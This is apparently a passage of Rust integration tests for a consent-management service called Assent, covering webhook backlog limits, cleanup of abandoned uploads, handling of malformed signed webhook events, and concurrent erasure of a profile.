    let out = app.cli(&["webhook", "pause", &id.to_string()]);
    assert!(out.status.success());
    let people: Vec<_> = (0..5)
        .map(|i| json!({"email": format!("q{i}@example.com"), "agreements": {"email": true}}))
        .collect();
    batch(&app, &key, json!(people)).await;
    let queued = format!("outbox WHERE endpoint_id = {id} AND sent_at IS NULL AND dead_at IS NULL");
    let set_aside = format!(
        "outbox WHERE endpoint_id = {id} AND dead_at IS NOT NULL AND last_error LIKE '%ASSENT_WEBHOOK_BACKLOG_MAX%'"
    );
    eventually("housekeeping sets the oldest aside", || {
        app.count(&set_aside) == 2
    })
    .await;
    assert_eq!(
        app.count(&queued),
        3,
        "the newest three wait for the endpoint"
    );
    assert_eq!(
        app.count(&format!(
            "outbox WHERE endpoint_id = {id} AND dead_at IS NOT NULL AND id > (SELECT MIN(id) FROM {queued})"
        )),
        0,
        "the ones set aside are the oldest"
    );
}

/// An upload whose import is never started is removed with its file after 24 hours.
#[tokio::test]
async fn an_abandoned_upload_is_removed_after_a_day() {
    let app = TestApp::spawn().await;
    let admin = crate::helpers::browser::staff(&app, "admin@example.com", "admin").await;
    let (status, body, _) =
        crate::imports::upload(&admin, &app, "later.csv", b"email\nann@example.com\n", None).await;
    assert_eq!(status, 303, "{body}");
    let files = || {
        std::fs::read_dir(app.data_dir.join("imports"))
            .unwrap()
            .count()
    };
    assert_eq!(files(), 1);
    assert_eq!(app.count("jobs WHERE status = 'draft'"), 1);
    // A fresh draft stays; one untouched for a day goes, with its file.
    app.exec("UPDATE jobs SET updated_at = '2020-01-01 00:00:00' WHERE status = 'draft'");
    eventually("the abandoned draft is removed", || app.count("jobs") == 0).await;
    assert_eq!(files(), 0, "its uploaded file is gone too");
}

/// Sends `body` to the integration `name` signed with Standard Webhooks under `whsec` as message `id`.
pub async fn deliver_event(
    app: &TestApp,
    name: &str,
    whsec: &str,
    id: &str,
    body: &serde_json::Value,
) -> (u16, serde_json::Value) {
    let ts = chrono::Utc::now().timestamp();
    let text = body.to_string();
    let sig = assent::domain::signing::signature(whsec, id, ts, text.as_bytes()).unwrap();
    let r = app
        .http
        .post(app.url(&format!("/integrations/{name}/webhook")))
        .header("Content-Type", "application/json")
        .header("webhook-id", id)
        .header("webhook-timestamp", ts.to_string())
        .header("webhook-signature", sig)
        .body(text)
        .send()
        .await
        .unwrap();
    (
        r.status().as_u16(),
        r.json().await.unwrap_or(serde_json::Value::Null),
    )
}

/// Assent's own event shape, sent wrong: an unknown type or a consent change without its agreement is a
/// 422 that says what is wrong, and changes nothing; a test event and the erasure of someone unknown
/// are accepted and change nothing.
#[tokio::test]
async fn another_assents_events_that_make_no_sense_get_a_clear_answer() {
    let app = TestApp::spawn().await;
    let whsec = add_peer(&app.db, "peer");
    let cases = [
        (
            json!({"type": "profile.exploded", "data": {"email": "x@example.com"}}),
            422,
            "not one Assent sends",
        ),
        (
            json!({"type": "consent.changed", "data": {"email": "x@example.com", "value": "enabled"}}),
            422,
            "needs data.agreement",
        ),
        (
            json!({"type": "consent.changed", "data": {"email": "x@example.com", "agreement": "no_such_agreement", "value": "enabled"}}),
            202,
            "no_such_agreement",
        ),
        (
            json!({"type": "webhook.test", "timestamp": "2026-12-01T00:00:00Z", "data": {}}),
            202,
            "\"accepted\":0",
        ),
        (
            json!({"type": "profile.erased", "data": {"email": "nobody@example.com"}}),
            202,
            "\"erased\":0",
        ),
    ];
    for (i, (body, status, says)) in cases.iter().enumerate() {
        let (got, answer) = deliver_event(&app, "peer", &whsec, &format!("msg_{i}"), body).await;
        assert_eq!(got, *status, "{body}: {answer}");
        assert!(answer.to_string().contains(says), "{body}: {answer}");
    }
    assert_eq!(app.count("profiles"), 0);
    assert_eq!(app.count("consent_events"), 0);
}

/// Another Assent's changes and its erasure of the same person, all at once: every delivery ends with a
/// 2xx (a 503 under the load is sent again, as senders do), the person ends erased (nothing enabled,
/// no data), and the ledger still verifies.
#[tokio::test]
async fn simultaneous_events_and_an_erasure_of_one_person_end_erased() {
    let app = TestApp::spawn().await;
    let whsec = add_peer(&app.db, "peer");
    let (status, _) = deliver_event(
        &app,
        "peer",
        &whsec,
        "msg_first",
        &json!({"type": "profile.created", "data": {"email": "race@example.com", "firstName": "Rae"}}),
    )
    .await;
    assert_eq!(status, 202);
    let mut sends = tokio::task::JoinSet::new();
    for i in 0..200 {
        let body = if i == 100 {
            json!({"type": "profile.erased", "data": {"email": "race@example.com"}})
        } else {
            json!({"type": "consent.changed", "data": {"email": "race@example.com", "agreement": "newsletter_agreement",
                   "value": if i % 2 == 0 { "enabled" } else { "disabled" }, "occurredAt": chrono::Utc::now().to_rfc3339()}})
        };
        let (http, url, whsec) = (
            app.http.clone(),
            app.url("/integrations/peer/webhook"),
            whsec.clone(),
        );
        sends.spawn(async move {
            // As any Standard Webhooks sender does, a 503 (the server is saturated: 200 deliveries
            // at once on two cores) is sent again a moment later, freshly signed, under the same id.
            let (text, id) = (body.to_string(), format!("msg_{i}"));
            let mut status = 0;
            for _ in 0..50 {
                let ts = chrono::Utc::now().timestamp();
                let sig =
                    assent::domain::signing::signature(&whsec, &id, ts, text.as_bytes()).unwrap();
                status = http
                    .post(&url)
                    .header("Content-Type", "application/json")
                    .header("webhook-id", &id)
                    .header("webhook-timestamp", ts.to_string())
                    .header("webhook-signature", sig)
                    .body(text.clone())
                    .send()
                    .await
                    .unwrap()
                    .status()
                    .as_u16();
                if status != 503 {
                    break;
                }
                tokio::time::sleep(std::time::Duration::from_millis(200)).await;
            }
            status
        });
    }
    let statuses = sends.join_all().await;
    assert!(statuses.iter().all(|s| *s == 202), "{statuses:?}");
    // The erased person is never re-created (a tombstone refuses later items) and holds nothing.
    assert_eq!(app.count("profiles WHERE erased_at IS NOT NULL"), 1);
    assert_eq!(app.count("profiles WHERE erased_at IS NULL"), 0);
    assert_eq!(app.count("consents WHERE value = 'enabled'"), 0);
    assert!(app.cli(&["ledger", "verify"]).status.success());
}
